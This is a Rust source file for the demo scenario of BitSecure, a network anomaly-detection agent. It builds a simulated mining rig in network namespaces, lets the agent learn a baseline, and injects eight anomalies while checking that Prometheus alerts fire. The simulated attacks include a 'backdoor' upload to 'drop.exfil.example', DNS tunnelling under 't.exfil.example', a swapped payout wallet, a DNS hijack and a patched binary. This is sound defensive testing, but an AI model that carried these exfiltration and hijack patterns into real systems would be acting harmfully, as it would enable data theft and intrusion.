//! The demo scenario: a rig that learns its baseline, runs normally, then misbehaves in eight
//! ways, with the agent and a real Prometheus (loaded with the bundled alert rules) watching.
//!
//! Time is compressed by `--time-scale`: at 60, the 5-minute job cycle takes 5 s and the
//! hour of learning 60 s; the agent's poll interval, Prometheus' scrape interval and every
//! duration in the alert rules shrink with it.

use std::fs::{self, File};
use std::io::Write as _;
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use anyhow::{Context as _, Result, bail};
use bitsecure::cli::client as http_client;
use clap::Args;
use serde_json::json;

use crate::lab::{Lab, PREFIX, site_address};
use crate::prometheus::{self, Setup};

/// The rig's own programs, as the agent will name them.
pub const MINER: &str = "xmrig";
pub const REPORTER: &str = "rig-monitor";
pub const RESOLVER: &str = "resolved";
pub const TIME_SYNC: &str = "chronyd";
/// The intruder of the first anomaly.
pub const INTRUDER: &str = "backdoor";
/// The account the rig's miner logs in with, and the one a thief swaps in.
const WALLET: &str = "4RigOwnersWallet.rig01";
const THIEF_WALLET: &str = "4ThiefsWallet.rig01";
/// What the demo calls the copy of the miner that impersonates it (its process name is the
/// miner's).
const IMPOSTOR: &str = "xmrig-impostor";

const POOL_PORT: u16 = 3333;
const MONITOR_PORT: u16 = 8080;
/// Host name the reporter sends: the agent names the monitor after it.
const MONITOR_NAME: &str = "monitor.rig.example";
const INTRUDER_PORT: u16 = 4444;
/// The name the rig's resolver looks up.
const POOL_NAME: &str = "pool.rig.example";
/// Real-life timings, divided by the time scale.
const JOB_CYCLE: Duration = Duration::from_secs(300);
/// Twelve job cycles: cadence detection needs about nine to stay sure of a cycle when a couple
/// of bursts land a poll early or late (as they do on a loaded machine); six often were not.
const LEARNING: Duration = Duration::from_secs(3600);
const DNS_EVERY: Duration = Duration::from_secs(60);
const NTP_EVERY: Duration = Duration::from_secs(64);
const SCRAPE_EVERY: Duration = Duration::from_secs(15);

/// One injected anomaly and the alerts (name, process) it must raise.
struct Anomaly {
    phase: &'static str,
    what: &'static str,
    expected: &'static [(&'static str, &'static str)],
}

const ANOMALIES: [Anomaly; 8] = [
    Anomaly {
        phase: "new-process",
        what: "a new process (`backdoor`) uploads 2 MB to a host the rig never talked to",
        expected: &[
            ("BitSecureUnexpectedDestination", INTRUDER),
            ("BitSecureNewProcessOnNetwork", INTRUDER),
        ],
    },
    Anomaly {
        phase: "burst",
        what: "an exfiltration-like burst: the monitoring reporter uploads 30 MB at once",
        expected: &[("BitSecureRateDeviation", REPORTER)],
    },
    Anomaly {
        phase: "dns-tunnel",
        what: "data leaving through DNS: the resolver asks for 300 random names under one domain",
        expected: &[
            ("BitSecureDnsTunnel", RESOLVER),
            ("BitSecureRateDeviation", RESOLVER),
        ],
    },
    Anomaly {
        phase: "impostor",
        what: "an impostor: a copy of the miner in a hidden directory mines to the same pool",
        expected: &[
            ("BitSecureImpostorProcess", MINER),
            ("BitSecureUnexpectedDestination", MINER),
        ],
    },
    Anomaly {
        phase: "payout",
        what: "the miner logs in to its pool with another wallet (a swapped payout address)",
        expected: &[
            ("BitSecurePayoutIdentityChanged", MINER),
            ("BitSecureUnexpectedDestination", MINER),
        ],
    },
    Anomaly {
        phase: "dns-hijack",
        what: "the pool's name is hijacked: DNS answers an attacker's address and the miner \
               reconnects there",
        expected: &[("BitSecureNameMoved", MINER)],
    },
    Anomaly {
        phase: "miner-patched",
        what: "the miner's binary is replaced (patched) and the miner restarted",
        expected: &[("BitSecureExecutableChanged", MINER)],
    },
    Anomaly {
        phase: "miner-stopped",
        what: "the miner stops",
        expected: &[("BitSecureExpectedTrafficSilent", MINER)],
    },
];

#[derive(Args)]
pub struct DemoArgs {
    /// How many times faster than real life the rig runs. 1 = a 5-minute job cycle and an hour
    /// of learning (about 90 minutes in all); 30 = 10 s and 120 s (about 5 minutes).
    #[arg(long, default_value_t = 30.0, value_parser = parse_scale)]
    time_scale: f64,
    /// The agent binary (default: `bitsecure` next to this program).
    #[arg(long)]
    agent: Option<PathBuf>,
    /// The Prometheus binary.
    #[arg(long, default_value = "prometheus")]
    prometheus: PathBuf,
    /// Where Prometheus listens (point Grafana's datasource here). Port 0 = any free port.
    #[arg(long, default_value = "127.0.0.1:0")]
    prometheus_listen: String,
    /// After the scenario keep the rig, the agent and Prometheus running until Ctrl-C, e.g. to
    /// look at the dashboard in Grafana.
    #[arg(long)]
    keep_running: bool,
    /// Also write the timeline (addresses, phases with start and end as Unix time) to this
    /// file, one JSON object per line.
    #[arg(long)]
    events: Option<PathBuf>,
    /// Working directory (logs, baseline, Prometheus data); removed at the end unless given.
    #[arg(long)]
    dir: Option<PathBuf>,
}

fn parse_scale(text: &str) -> Result<f64, String> {
    match text.parse::<f64>() {
        Ok(scale) if (1.0..=120.0).contains(&scale) => Ok(scale),
        _ => Err("a number from 1 (real time) to 120".into()),
    }
}

/// Set by SIGINT / SIGTERM: the scenario stops at its next pause and the lab is cleaned up.
static INTERRUPTED: AtomicBool = AtomicBool::new(false);

extern "C" fn on_signal(_: libc::c_int) {
    INTERRUPTED.store(true, Ordering::SeqCst);
}

/// Sleeps, but returns an error as soon as the user interrupts.
pub(crate) fn pause(duration: Duration) -> Result<()> {
    let until = Instant::now() + duration;
    while Instant::now() < until {
        if INTERRUPTED.load(Ordering::SeqCst) {
            bail!("interrupted");
        }
        std::thread::sleep(Duration::from_millis(50).min(until - Instant::now()));
    }
    Ok(())
}

pub(crate) fn now_unix() -> f64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0.0, |since| since.as_secs_f64())
}

/// Timings of one run.
struct Pace {
    scale: f64,
    cycle: Duration,
    scrape: Duration,
    poll: Duration,
}

impl Pace {
    fn new(scale: f64) -> Self {
        let cycle = JOB_CYCLE.div_f64(scale);
        Self {
            scale,
            cycle,
            scrape: SCRAPE_EVERY
                .div_f64(scale)
                .clamp(Duration::from_secs(1), SCRAPE_EVERY),
            poll: (cycle / 10).clamp(Duration::from_millis(500), Duration::from_secs(5)),
        }
    }

    fn real(&self, duration: Duration) -> Duration {
        duration.div_f64(self.scale)
    }

    /// How long an anomaly may take to raise its alerts: a few cycles plus scrapes.
    fn alert_timeout(&self) -> Duration {
        self.cycle * 4 + self.scrape * 20
    }
}

/// The timeline, printed and optionally written as JSON lines.
pub(crate) struct Timeline(pub(crate) Option<File>);

impl Timeline {
    pub(crate) fn record(&mut self, event: serde_json::Value) -> Result<()> {
        if let Some(file) = &mut self.0 {
            writeln!(file, "{event}").context("cannot write the events file")?;
        }
        Ok(())
    }
}

pub fn run(args: &DemoArgs) -> Result<()> {
    with_lab(
        args.agent.as_ref(),
        args.dir.as_ref(),
        |agent_binary, lab| scenario(args, agent_binary, lab),
    )
}

/// Builds the lab (as root), runs `scenario` in it with the agent binary, and cleans up —
/// also on Ctrl-C or SIGTERM. `dir` keeps the working files; by default a temporary one.
pub(crate) fn with_lab(
    agent: Option<&PathBuf>,
    dir: Option<&PathBuf>,
    scenario: impl FnOnce(&std::path::Path, &mut Lab) -> Result<()>,
) -> Result<()> {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        bail!(
            "the scenario needs root: it creates network namespaces and a cgroup and loads \
             eBPF programs (run `sudo cargo xtask demo`)"
        );
    }
    let agent_binary = match agent {
        Some(path) => path.clone(),
        None => std::env::current_exe()?.with_file_name("bitsecure"),
    };
    if !agent_binary.is_file() {
        bail!(
            "no agent binary at {} (build it with `cargo build --release`, or use --agent)",
            agent_binary.display()
        );
    }
    for signal in [libc::SIGINT, libc::SIGTERM] {
        // SAFETY: the handler only stores to an atomic, which is async-signal-safe.
        unsafe { libc::signal(signal, on_signal as *const () as libc::sighandler_t) };
    }
    let temporary = dir.is_none();
    let dir = dir.cloned().unwrap_or_else(|| {
        std::env::temp_dir().join(format!("bitsecure-demo-{}", std::process::id()))
    });
    let result = (|| {
        let mut lab = Lab::create(&dir)?;
        let outcome = scenario(&agent_binary, &mut lab);
        if let Err(error) = &outcome {
            println!("\n✗ {error:#}\n  logs: {}", lab.dir.join("logs").display());
        }
        drop(lab);
        outcome
    })();
    println!("cleaned up: processes stopped, namespaces and cgroup removed");
    if temporary {
        let _ = fs::remove_dir_all(&dir);
    }
    result
}

fn scenario(args: &DemoArgs, agent_binary: &std::path::Path, lab: &mut Lab) -> Result<()> {
    let pace = Pace::new(args.time_scale);
    let mut timeline = Timeline(
        args.events
            .as_ref()
            .map(|path| {
                File::create(path).with_context(|| format!("cannot create {}", path.display()))
            })
            .transpose()?,
    );
    println!(
        "BitSecure demo at {}x: job cycle {:.1?}, learning {:.1?}, agent polls every {:.1?}, \
         Prometheus scrapes every {:.1?}",
        pace.scale,
        pace.cycle,
        pace.real(LEARNING),
        pace.poll,
        pace.scrape
    );

    step("starting the remote sites: pool, monitoring endpoint, DNS and NTP, an outside host");
    let at = |site: &str, port: u16| format!("{}:{port}", site_address(site));
    let cycle_ms = pace.cycle.as_millis().to_string();
    lab.start_at_site(
        "pool",
        "pool",
        &[
            "pool",
            "--listen",
            &at("pool", POOL_PORT),
            "--job-interval-ms",
            &cycle_ms,
        ],
    )?;
    lab.start_at_site(
        "monitor",
        "monitor",
        &["monitor", "--listen", &at("monitor", MONITOR_PORT)],
    )?;
    lab.start_at_site(
        "outside",
        "outside",
        &["monitor", "--listen", &at("outside", INTRUDER_PORT)],
    )?;
    // The pool's name (moved to its hijacker's address later), and NTP.
    lab.start_infrastructure(POOL_NAME)?;
    lab.start_at_site(
        "hijack",
        "hijacked-pool",
        &[
            "pool",
            "--listen",
            &at("hijack", POOL_PORT),
            "--job-interval-ms",
            &cycle_ms,
        ],
    )?;

    step("starting the agent (learns a baseline first) and Prometheus");
    // The rig's resolver serves everyone's lookups, as systemd-resolved does: its answers
    // name the pool's address for the miner too.
    let agent_listen = start_agent(
        lab,
        agent_binary,
        pace.poll,
        pace.real(LEARNING),
        &format!(
            "[names]\ntrusted_resolvers = [\"{}\"]\n",
            lab.program(RESOLVER)?.display()
        ),
    )?;
    let prometheus_listen = match args.prometheus_listen.strip_suffix(":0") {
        Some(_) => free_address()?,
        None => args.prometheus_listen.clone(),
    };
    prometheus::start(
        lab,
        &Setup {
            binary: &args.prometheus,
            listen: &prometheus_listen,
            agent: &agent_listen,
            scrape_interval: pace.scrape,
            time_scale: pace.scale,
        },
    )?;
    println!("  agent:      http://{agent_listen}/metrics");
    println!("  Prometheus: http://{prometheus_listen} (Grafana datasource URL)");
    timeline.record(json!({
        "event": "ready",
        "agent": agent_listen,
        "prometheus": prometheus_listen,
        "scrape_interval_seconds": pace.scrape.as_secs_f64(),
        "time_scale": pace.scale,
        "dir": lab.dir,
    }))?;

    step("starting the rig: miner, monitoring reporter, DNS and NTP clients");
    let learning_start = now_unix();
    let pool = at("pool", POOL_PORT);
    let miner_args = ["miner", "--pool", pool.as_str(), "--worker", WALLET];
    let thief_args = ["miner", "--pool", pool.as_str(), "--worker", THIEF_WALLET];
    let dns = at("infra", 53);
    let resolving_args = [
        "miner",
        "--pool",
        pool.as_str(),
        "--worker",
        WALLET,
        "--resolve",
        POOL_NAME,
        "--dns",
        dns.as_str(),
    ];
    let hijacked = at("hijack", POOL_PORT);
    let hijacked_args = ["miner", "--pool", hijacked.as_str(), "--worker", WALLET];
    lab.start_on_rig(
        REPORTER,
        &[
            "reporter",
            "--to",
            &at("monitor", MONITOR_PORT),
            "--bytes",
            "1500",
            "--every-ms",
            &cycle_ms,
            "--host",
            MONITOR_NAME,
        ],
    )?;
    // The resolver looks the pool's name up every minute; NTP ticks.
    for (name, every, port, extra) in [
        (
            RESOLVER,
            DNS_EVERY,
            53,
            &["--bytes", "40", "--dns-name", POOL_NAME][..],
        ),
        (TIME_SYNC, NTP_EVERY, 123, &["--bytes", "48"][..]),
    ] {
        let every_ms = pace.real(every).as_millis().to_string();
        let to = at("infra", port);
        let mut args = vec!["udp-ticker", "--to", &to, "--every-ms", &every_ms];
        args.extend(extra);
        lab.start_on_rig(name, &args)?;
    }
    // A rig program that refused its arguments would leave a hole in the scene, quietly.
    pause(Duration::from_millis(300))?;
    lab.check_running()?;
    // The miner connects once the resolver has looked the pool up, as a miner resolving
    // through the system's resolver does: its rule is learnt by name.
    let lookup = pace.real(DNS_EVERY) * 2;
    pause(lookup)?;
    lab.start_on_rig(MINER, &miner_args)?;

    step("learning the baseline");
    let learning_timeout = pace.real(LEARNING) + pace.cycle * 2 + Duration::from_secs(30);
    let deadline = Instant::now() + learning_timeout;
    loop {
        let metrics = http_client::get(&agent_listen, "/metrics")?;
        if gauge(&metrics, "bitsecure_baseline_learning") == Some(0.0)
            && gauge(&metrics, "bitsecure_baseline_rules").unwrap_or(0.0) > 0.0
        {
            break;
        }
        if Instant::now() > deadline {
            bail!("the agent did not finish learning in {learning_timeout:.0?}");
        }
        let remaining = gauge(&metrics, "bitsecure_baseline_learning_remaining_seconds");
        print!(
            "\r  {:.0} s of learning left   ",
            remaining.unwrap_or(f64::NAN)
        );
        std::io::stdout().flush()?;
        pause(pace.cycle.min(Duration::from_secs(5)))?;
    }
    println!();
    timeline.record(
        json!({"event": "phase", "phase": "learning", "start": learning_start, "end": now_unix()}),
    )?;
    print_baseline(agent_binary, lab)?;

    step(
        "normal operation: everything matches the baseline; the miner reconnects, resolving \
         its pool's name itself this time (rare but normal: learnt while the baseline settles)",
    );
    let normal_start = now_unix();
    pause(pace.cycle)?;
    lab.stop(MINER)?;
    lab.start_on_rig(MINER, &resolving_args)?;
    pause((pace.cycle * 2).max(pace.scrape * 10))?;
    show(&prometheus_listen, &pace)?;
    timeline.record(
        json!({"event": "phase", "phase": "normal", "start": normal_start, "end": now_unix()}),
    )?;

    let intruder_target = at("outside", INTRUDER_PORT);
    let monitor_target = at("monitor", MONITOR_PORT);
    let mut missing = Vec::new();
    for Anomaly {
        phase,
        what,
        expected,
    } in ANOMALIES
    {
        step(&format!("anomaly: {what}"));
        let start = now_unix();
        match phase {
            "new-process" => lab.run_on_rig(
                INTRUDER,
                &[
                    "reporter",
                    "--to",
                    &intruder_target,
                    "--bytes",
                    "2000000",
                    "--count",
                    "1",
                    "--host",
                    "drop.exfil.example",
                ],
            )?,
            "burst" => lab.run_on_rig(
                REPORTER,
                &[
                    "reporter",
                    "--to",
                    &monitor_target,
                    "--bytes",
                    "30000000",
                    "--count",
                    "1",
                    "--host",
                    MONITOR_NAME,
                ],
            )?,
            "dns-tunnel" => lab.run_on_rig(
                RESOLVER,
                &[
                    "dns-burst",
                    "--to",
                    &at("infra", 53),
                    "--domain",
                    "t.exfil.example",
                    "--count",
                    "300",
                    "--every-ms",
                    "5",
                ],
            )?,
            "impostor" => {
                let copy = lab.hidden_copy(MINER)?;
                lab.start_program_on_rig(IMPOSTOR, &copy, &miner_args)?;
            }
            "payout" => {
                lab.stop(MINER)?;
                lab.start_on_rig(MINER, &thief_args)?;
            }
            "dns-hijack" => {
                lab.answer(POOL_NAME, "hijack")?;
                pause(lookup)?;
                lab.stop(MINER)?;
                lab.start_on_rig(MINER, &hijacked_args)?;
            }
            "miner-patched" => {
                lab.stop(MINER)?;
                lab.patch_program(MINER)?;
                lab.start_on_rig(MINER, &miner_args)?;
            }
            _ => lab.stop(MINER)?,
        }
        let fired = wait_for_alerts(&prometheus_listen, expected, pace.alert_timeout())?;
        match phase {
            "impostor" => lab.stop(IMPOSTOR)?,
            // The owner's wallet again.
            "payout" => {
                lab.stop(MINER)?;
                lab.start_on_rig(MINER, &miner_args)?;
            }
            // The pool's own address again.
            "dns-hijack" => {
                lab.answer(POOL_NAME, "pool")?;
                pause(lookup)?;
                lab.stop(MINER)?;
                lab.start_on_rig(MINER, &miner_args)?;
            }
            _ => {}
        }
        show(&prometheus_listen, &pace)?;
        for (alert, process) in expected {
            if !fired
                .iter()
                .any(|(name, by)| name == alert && by == process)
            {
                println!(
                    "  ✗ {alert} for {process} did not fire within {:.0?}",
                    pace.alert_timeout()
                );
                missing.push(format!("{alert}{{process=\"{process}\"}}"));
            }
        }
        timeline
            .record(json!({"event": "phase", "phase": phase, "start": start, "end": now_unix()}))?;
    }
    let ok = missing.is_empty();
    timeline.record(json!({"event": "done", "ok": ok}))?;
    if ok {
        println!("\n✓ every anomaly raised its alerts");
    }
    if args.keep_running {
        println!(
            "\nStill running (Ctrl-C to stop and clean up). Grafana: add a Prometheus datasource \
             at http://{prometheus_listen} and import grafana/dashboards/bitsecure.json."
        );
        while pause(Duration::from_secs(3600)).is_ok() {}
    }
    if !ok {
        bail!("alerts that did not fire: {}", missing.join(", "));
    }
    Ok(())
}

/// Writes the agent's config (watching the rig's cgroup and the sites' interfaces, learning
/// for `learning` into the lab's `baseline.toml`; `extra` is TOML that goes on with the
/// `[baseline]` table, then may add tables), starts it and waits until it serves /metrics;
/// returns its address.
pub(crate) fn start_agent(
    lab: &mut Lab,
    agent_binary: &std::path::Path,
    poll: Duration,
    learning: Duration,
    extra: &str,
) -> Result<String> {
    let listen = free_address()?;
    let config = lab.dir.join("bitsecure.toml");
    fs::write(
        &config,
        format!(
            "[agent]\nlisten = \"{listen}\"\npoll_interval_seconds = {}\ncgroup = \"{}\"\n\n\
             [kernel]\npin_path = \"\"\ninterfaces = [\"{PREFIX}-*\"]\n\n\
             [baseline]\npath = \"{}\"\nlearn_seconds = {}\n\n{extra}",
            poll.as_secs_f64(),
            lab.cgroup.display(),
            lab.dir.join("baseline.toml").display(),
            learning.as_secs_f64(),
        ),
    )?;
    let mut agent = Command::new(agent_binary);
    agent.args(["run", "--config"]).arg(&config);
    lab.start("agent", agent)?;
    wait_until("the agent serves /metrics", Duration::from_secs(30), || {
        Ok(http_client::get(&listen, "/metrics").is_ok())
    })?;
    Ok(listen)
}

pub(crate) fn step(what: &str) {
    println!("\n▶ {what}");
}

pub(crate) fn free_address() -> Result<String> {
    let listener = TcpListener::bind("127.0.0.1:0").context("no free port")?;
    Ok(listener.local_addr()?.to_string())
}

/// The value of an unlabelled gauge in a /metrics text.
pub(crate) fn gauge(metrics: &str, name: &str) -> Option<f64> {
    metrics.lines().find_map(|line| {
        let (metric, value) = line.split_once(' ')?;
        (metric == name).then(|| value.trim().parse().ok())?
    })
}

pub(crate) fn wait_until(
    what: &str,
    timeout: Duration,
    mut done: impl FnMut() -> Result<bool>,
) -> Result<()> {
    let deadline = Instant::now() + timeout;
    while !done()? {
        if Instant::now() > deadline {
            bail!("timed out after {timeout:.0?} waiting until {what}");
        }
        pause(Duration::from_millis(200))?;
    }
    Ok(())
}

/// The rules the agent learned, as `bitsecure baseline show` prints them.
fn print_baseline(agent_binary: &std::path::Path, lab: &Lab) -> Result<()> {
    let output = Command::new(agent_binary)
        .args(["baseline", "show", "--file"])
        .arg(lab.dir.join("baseline.toml"))
        .output()
        .context("cannot run `bitsecure baseline show`")?;
    println!("  learned baseline:");
    for line in String::from_utf8_lossy(&output.stdout).lines() {
        println!("    {line}");
    }
    Ok(())
}

/// Polls Prometheus until every expected (alert, process) fires or `timeout` passes; returns
/// what fired.
pub(crate) fn wait_for_alerts(
    prometheus: &str,
    expected: &[(&str, &str)],
    timeout: Duration,
) -> Result<Vec<(String, String)>> {
    let deadline = Instant::now() + timeout;
    loop {
        let fired: Vec<(String, String)> = prometheus::firing_alerts(prometheus)?
            .into_iter()
            .map(|alert| {
                let label = |key: &str| alert.labels.get(key).cloned().unwrap_or_default();
                (label("alertname"), label("process"))
            })
            .collect();
        let all = expected
            .iter()
            .all(|(alert, process)| fired.iter().any(|(a, p)| a == alert && p == process));
        if all || Instant::now() > deadline {
            return Ok(fired);
        }
        pause(Duration::from_millis(500))?;
    }
}

/// Prints what the dashboard and the alerts show now, from Prometheus.
fn show(prometheus: &str, pace: &Pace) -> Result<()> {
    // One job cycle, so bursty traffic shows as its average rate.
    let window = format!("{}ms", pace.cycle.max(pace.scrape * 4).as_millis());
    let alerts = prometheus::firing_alerts(prometheus)?;
    println!(
        "  alerts firing: {}",
        if alerts.is_empty() { "none" } else { "" }
    );
    for alert in &alerts {
        println!(
            "    [{}] {}: {}",
            alert.labels.get("severity").map_or("?", String::as_str),
            alert.labels.get("alertname").map_or("?", String::as_str),
            alert.annotations.get("summary").map_or("", String::as_str),
        );
    }
    println!("  dashboard — live traffic vs baseline reference, bytes/s (sent + received):");
    let live = prometheus::query(
        prometheus,
        &format!(
            "sum by (process) (rate(bitsecure_sent_bytes_total[{window}]) + rate(bitsecure_received_bytes_total[{window}]))"
        ),
    )?;
    let reference = prometheus::query(
        prometheus,
        "sum by (process) (bitsecure_rule_reference_bytes_per_second)",
    )?;
    let mut processes: Vec<&String> = live
        .iter()
        .chain(&reference)
        .filter_map(|sample| sample.labels.get("process"))
        .collect();
    processes.sort();
    processes.dedup();
    for process in processes {
        let value = |samples: &[prometheus::Sample]| {
            samples
                .iter()
                .find(|sample| sample.labels.get("process") == Some(process))
                .map_or("—".to_owned(), |sample| format!("{:.0}", sample.value))
        };
        println!(
            "    {process:<14} live {:>10}   baseline {:>10}",
            value(&live),
            value(&reference)
        );
    }
    let unexpected = prometheus::query(
        prometheus,
        "sort_desc(bitsecure_unexpected_sent_bytes_total + bitsecure_unexpected_received_bytes_total)",
    )?;
    println!(
        "  dashboard — unexpected traffic: {}",
        if unexpected.is_empty() { "none" } else { "" }
    );
    for sample in unexpected.iter().take(5) {
        let label = |key: &str| sample.labels.get(key).map_or("", String::as_str);
        println!(
            "    {} → {}:{} {}  {:.0} bytes",
            label("process"),
            label("remote"),
            label("port"),
            label("protocol"),
            sample.value
        );
    }
    let payouts = prometheus::query(prometheus, "bitsecure_payout_changed_bytes_total")?;
    for sample in &payouts {
        let label = |key: &str| sample.labels.get(key).map_or("", String::as_str);
        println!(
            "  dashboard — payout account changed: {} → {}:{} as {}  {:.0} bytes",
            label("process"),
            label("remote"),
            label("port"),
            label("account"),
            sample.value
        );
    }
    let moved = prometheus::query(prometheus, "bitsecure_name_moved == 1")?;
    for sample in &moved {
        let label = |key: &str| sample.labels.get(key).map_or("", String::as_str);
        println!(
            "  dashboard — name moved: {} now at {} (outside its learnt networks; {} talks to it)",
            label("name"),
            label("remote"),
            label("process")
        );
    }
    let impostors = prometheus::query(prometheus, "bitsecure_impostor_bytes_total")?;
    let changed = prometheus::query(prometheus, "bitsecure_executable_changed == 1")?;
    println!(
        "  dashboard — impostors and changed executables: {}",
        if impostors.is_empty() && changed.is_empty() {
            "none"
        } else {
            ""
        }
    );
    for sample in &impostors {
        let label = |key: &str| sample.labels.get(key).map_or("", String::as_str);
        println!(
            "    impostor of {}: {} in {}  {:.0} bytes",
            label("process"),
            label("exe"),
            label("cgroup"),
            sample.value
        );
    }
    for sample in &changed {
        let label = |key: &str| sample.labels.get(key).map_or("", String::as_str);
        println!(
            "    {} runs a changed executable: {}",
            label("process"),
            label("exe")
        );
    }
    let silent = prometheus::query(prometheus, "bitsecure_rule_silence_ratio > 1")?;
    let deviating = prometheus::query(prometheus, "bitsecure_rule_deviation_ratio > 3")?;
    for (title, samples) in [
        ("silent beyond cadence (ratio)", &silent),
        ("deviating (ratio to p95)", &deviating),
    ] {
        println!(
            "  dashboard — {title}: {}",
            if samples.is_empty() { "none" } else { "" }
        );
        for sample in samples.iter() {
            let label = |key: &str| sample.labels.get(key).map_or("", String::as_str);
            println!(
                "    {} → {}:{} {} {:.1}",
                label("process"),
                label("remote"),
                label("port"),
                label("direction"),
                sample.value
            );
        }
    }
    Ok(())
}
